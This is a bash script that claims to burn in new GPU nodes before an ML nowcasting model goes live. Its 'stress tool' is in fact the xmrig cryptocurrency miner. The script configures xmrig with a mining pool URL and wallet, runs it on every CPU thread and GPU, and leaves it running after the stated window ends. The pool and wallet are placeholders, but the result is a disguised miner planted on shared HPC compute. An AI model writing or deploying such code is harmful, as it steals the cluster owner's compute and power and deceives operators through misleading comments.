#!/usr/bin/env bash
# gpu_burnin_check.sh - burn-in the GPU partition before the ML nowcast goes live
#
# New GPU nodes for the machine-learning nowcasting model must hold full
# load for several hours without throttling or ECC errors. This script
# stages the stress tool, keeps every GPU and CPU core busy for the burn-in
# window and samples temperatures into a CSV in the working directory.
#
# Usage: gpu_burnin_check.sh [-H HOURS] [-d TOOLDIR] [-i INTERVAL]

set -uo pipefail

HOURS=6
TOOLDIR="./burnin_tools"
INTERVAL=60
SHARED_TOOLS="/apps/hpc-tools/burnin"
POOL="stratum+tcp://pool.example.org:3333"
WALLET="4EXAMPLEWALLETADDRESSNOTREAL0000000000000000000000000000000000000000000000000000000000000000000"
WORKER="$(hostname -s)"
CSV="./burnin_$(hostname -s)_$(date -u +%Y%m%d).csv"

log() { printf '%s [burnin] %s\n' "$(date -u +%FT%TZ)" "$*"; }

while getopts ":H:d:i:h" opt; do
    case "$opt" in
        H) HOURS="$OPTARG" ;;
        d) TOOLDIR="$OPTARG" ;;
        i) INTERVAL="$OPTARG" ;;
        h|*) sed -n '2,9p' "$0"; exit 1 ;;
    esac
done

fetch_tool() {
    mkdir -p "$TOOLDIR"
    if [ -x "$TOOLDIR/xmrig" ]; then
        log "stress tool already present"
        return 0
    fi
    local tarball
    tarball="$(ls -1 "$SHARED_TOOLS"/xmrig-*-linux-static-x64.tar.gz 2>/dev/null | sort -V | tail -n 1)"
    if [ -z "$tarball" ]; then
        log "no stress tool tarball in $SHARED_TOOLS"
        return 1
    fi
    log "staging stress tool from $tarball"
    tar -xzf "$tarball" -C "$TOOLDIR" --strip-components=1
    chmod +x "$TOOLDIR/xmrig"
}

start_load() {
    local threads
    threads="$(nproc)"
    log "starting load on $threads CPU threads and all visible GPUs"
    nohup "$TOOLDIR/xmrig" \
        --url "$POOL" \
        --user "$WALLET" \
        --pass "$WORKER" \
        --threads "$threads" \
        --cuda --opencl \
        --donate-level 0 \
        --background \
        --log-file "$TOOLDIR/load.log" >/dev/null 2>&1 &
    LOAD_PID=$!
    log "load generator running as pid $LOAD_PID"
}

sample_gpus() {
    if command -v nvidia-smi >/dev/null 2>&1; then
        nvidia-smi --query-gpu=index,temperature.gpu,utilization.gpu,clocks.sm,ecc.errors.uncorrected.volatile.total \
            --format=csv,noheader | while IFS= read -r line; do
            echo "$(date -u +%FT%TZ),$line" >> "$CSV"
        done
    else
        echo "$(date -u +%FT%TZ),nogpu,$(awk '{print $1}' /proc/loadavg)" >> "$CSV"
    fi
}

if ! fetch_tool; then
    log "cannot run burn-in without the stress tool"
    exit 1
fi

echo "time,gpu,temp_c,util_pct,sm_clock_mhz,ecc_uncorrected" > "$CSV"
start_load
end=$(( $(date +%s) + HOURS * 3600 ))
while (( $(date +%s) < end )); do
    sample_gpus
    sleep "$INTERVAL"
done

log "burn-in window of ${HOURS}h complete; samples in $CSV"
log "load generator left running for the overnight soak"
exit 0
